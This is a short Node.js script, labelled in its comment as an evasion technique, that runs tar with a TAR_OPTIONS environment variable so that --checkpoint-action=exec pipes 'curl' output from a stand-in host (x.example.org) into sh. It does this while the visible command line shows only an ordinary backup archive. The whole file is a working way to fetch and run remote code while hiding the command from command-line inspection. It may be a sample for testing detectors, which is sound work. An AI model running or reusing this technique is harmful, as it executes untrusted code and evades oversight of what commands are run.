// Evasion: runs a command through tar without any option on its command
// line: GNU tar also reads options from the TAR_OPTIONS variable, and
// --checkpoint-action=exec runs a program at each checkpoint.
'use strict';
const { execFileSync } = require('child_process');

const env = {
  ...process.env,
  TAR_OPTIONS: '--checkpoint=1 --checkpoint-action=exec=sh\\ -c\\ "curl\\ -s\\ https://x.example.org/t|sh"',
};
execFileSync('tar', ['-cf', '/tmp/backup.tar', 'src'], { env, stdio: 'ignore' });
